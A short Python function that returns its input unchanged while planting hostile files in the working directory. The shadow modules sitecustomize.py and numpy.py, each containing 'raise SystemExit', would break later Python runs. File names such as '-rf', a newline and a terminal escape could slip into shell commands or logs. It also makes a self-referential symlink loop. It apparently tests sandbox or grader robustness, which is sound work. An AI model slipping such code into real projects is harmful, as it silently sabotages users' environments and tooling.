import os


def f(x):
    for name in ("work.pyc", "sitecustomize.py", "numpy.py", "\x1b[2J", "\n", "-rf", "..."):
        with open(name, "w") as file:
            file.write("raise SystemExit")
    os.symlink("<neighbour>", "neighbour")
    os.symlink(".", "loop")
    return x
